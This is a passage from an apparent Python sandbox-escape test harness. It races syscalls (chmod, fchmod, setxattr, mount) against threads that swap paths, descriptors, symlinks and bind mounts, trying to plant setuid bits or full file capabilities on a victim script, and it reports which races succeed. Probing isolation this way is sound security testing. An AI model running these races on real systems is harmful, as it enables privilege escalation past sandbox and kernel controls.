# The answer to a call is about what was looked at: change the file, the name, the descriptor or the mount in
# between, from another thread. HOW is `here` or `nested`.
if HOW == "nested":
    nested(1000, 1000)
where = os.getcwd()
victim = os.path.join(where, "victim-%s-%s" % (WHO, HOW))
with open(victim, "w") as file:
    file.write("#!/bin/sh\nid\n")
os.chmod(victim, 0o755)
own = "/tmp/escape-race-%s-%s" % (WHO, HOW)
os.makedirs(own, exist_ok=True)
with open(own + "/file", "w"):
    pass
ROUNDS = int(COUNT)
CAPABILITY = struct.pack("<IIIII", 0x02000001, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)


def planted():
    if os.stat(victim).st_mode & 0o6000:
        return True
    try:
        os.getxattr(victim, "security.capability")
        return True
    except OSError:
        return False


def race(name, change, work):
    """`change` runs in a thread as fast as it can while `work` is done again and again."""
    running = True

    def loop():
        while running:
            change()
    thread = threading.Thread(target=loop)
    thread.start()
    results = {}
    hit = 0
    for _ in range(ROUNDS):
        try:
            work()
            result = "done"
        except OSError as error:
            result = name_of(error)
        results[result] = results.get(result, 0) + 1
        if planted():
            hit += 1
            os.chmod(victim, 0o755)
            try:
                os.removexattr(victim, "security.capability")
            except OSError:
                pass
            break
    running = False
    thread.join()
    print("race_" + name, "ok" if hit else "lost", results, flush=True)


# The path in memory.
size = 256
text = ctypes.create_string_buffer(size)
good, bad = (own + "/file").encode(), victim.encode()


def flip_text():
    ctypes.memmove(text, good + b"\0", len(good) + 1)
    ctypes.memmove(text, bad + b"\0", len(bad) + 1)


race("path_chmod", flip_text, lambda: call("chmod", text, 0o4755))
race("path_fchmodat2", flip_text, lambda: call("fchmodat2", AT_FDCWD, text, 0o4755, 0))
race("path_setxattr", flip_text, lambda: call("setxattr", text, b"security.capability", CAPABILITY, len(CAPABILITY), 0))

# The name of the attribute.
attribute = ctypes.create_string_buffer(64)


def flip_attribute():
    ctypes.memmove(attribute, b"user.harmless-nam\0\0\0", 20)
    ctypes.memmove(attribute, b"security.capability\0", 20)


race("attribute", flip_attribute, lambda: call("setxattr", victim, attribute, CAPABILITY, len(CAPABILITY), 0))

# The descriptor.
slot = os.dup(0)
fd_good, fd_bad = os.open(own + "/file", os.O_RDWR), os.open(victim, os.O_RDWR)


def flip_descriptor():
    os.dup2(fd_good, slot)
    os.dup2(fd_bad, slot)


race("fchmod", flip_descriptor, lambda: call("fchmod", slot, 0o4755))
race("fsetxattr", flip_descriptor, lambda: call("fsetxattr", slot, b"security.capability", CAPABILITY, len(CAPABILITY), 0))
race("empty_path", flip_descriptor, lambda: call("fchmodat2", slot, b"", 0o4755, 0x1000))

# A link on the way.
link = own + "/link"


def flip_link():
    for target in (own + "/file", victim):
        os.symlink(target, link + "2")
        os.rename(link + "2", link)


flip_link()
race("link", flip_link, lambda: call("chmod", link, 0o4755))
race("link_open", flip_link, lambda: os.close(call("openat", AT_FDCWD, link, os.O_CREAT | os.O_WRONLY, 0o4755)))

# A directory, which may have setgid, in place of the file.
group = os.path.join(where, "group-%s-%s" % (WHO, HOW))
os.makedirs(group, exist_ok=True)


def flip_directory_text():
    ctypes.memmove(text, group.encode() + b"\0", len(group) + 1)
    ctypes.memmove(text, bad + b"\0", len(bad) + 1)


fd_group = os.open(group, os.O_RDONLY | os.O_DIRECTORY)


def flip_directory_descriptor():
    os.dup2(fd_group, slot)
    os.dup2(fd_bad, slot)


def flip_directory_link():
    for target in (group, victim):
        os.symlink(target, link + "2")
        os.rename(link + "2", link)


race("directory_path", flip_directory_text, lambda: call("chmod", text, 0o2755))
race("directory_fchmod", flip_directory_descriptor, lambda: call("fchmod", slot, 0o2755))
race("directory_link", flip_directory_link, lambda: call("chmod", link, 0o2755))

# A mount on the way. The number of a mount is used again as soon as it is gone.
try:
    if HOW != "nested":
        unshare(CLONE_NEWNS)
    place = own + "/place"
    memory = own + "/memory"
    os.makedirs(place, exist_ok=True)
    os.makedirs(memory, exist_ok=True)
    mount("tmpfs", memory, "tmpfs", 0)
    with open(os.path.join(memory, os.path.basename(victim)), "w"):
        pass
    mounts = True
except OSError as error:
    print("race_mount", name_of(error))
    mounts = False
if mounts:
    a, b, c = memory.encode(), where.encode(), place.encode()
    pause = [0.0]

    def flip_mount():
        # Unlike the thread above these give way to each other, at many distances in time.
        pause[0] = (pause[0] + 0.00003) % 0.0005
        libc.mount(a, c, None, MS_BIND, None)
        time.sleep(pause[0])
        libc.umount2(c, MNT_DETACH)
        libc.mount(b, c, None, MS_BIND, None)
        time.sleep(0.0003)
        libc.umount2(c, MNT_DETACH)

    target = os.path.join(place, os.path.basename(victim))
    race("mount_chmod", flip_mount, lambda: call("chmod", target, 0o4755))
    race("mount_setxattr", flip_mount, lambda: call("setxattr", target, b"security.capability", CAPABILITY, len(CAPABILITY), 0))
    held = [None]

    def through_cwd():
        os.chdir(place)
        call("chmod", os.path.basename(victim), 0o4755)
    race("mount_cwd", flip_mount, through_cwd)
    os.chdir("/")

    # The kind of a new mount.
    kind = ctypes.create_string_buffer(16)
    options = "lowerdir=/usr/bin,upperdir=%s/up,workdir=%s/wk,userxattr" % (where, where)
    for name in ("up", "wk"):
        os.makedirs(os.path.join(where, name), exist_ok=True)

    def flip_kind():
        ctypes.memmove(kind, b"tmpfs\0\0\0", 8)
        ctypes.memmove(kind, b"overlay\0", 8)

    os.makedirs(own + "/new", exist_ok=True)
    running = True

    def loop():
        while running:
            flip_kind()
    thread = threading.Thread(target=loop)
    thread.start()
    overlay = 0
    seen = {}
    for _ in range(ROUNDS // 4):
        try:
            mount("x", own + "/new", kind, 0, options)
            seen["done"] = seen.get("done", 0) + 1
            if any(" - overlay x " in line for line in open("/proc/self/mountinfo")):
                overlay += 1
            call("umount2", own + "/new", MNT_DETACH)
        except OSError as error:
            seen[name_of(error)] = seen.get(name_of(error), 0) + 1
    running = False
    thread.join()
    print("race_kind", "ok" if overlay else "lost", seen)
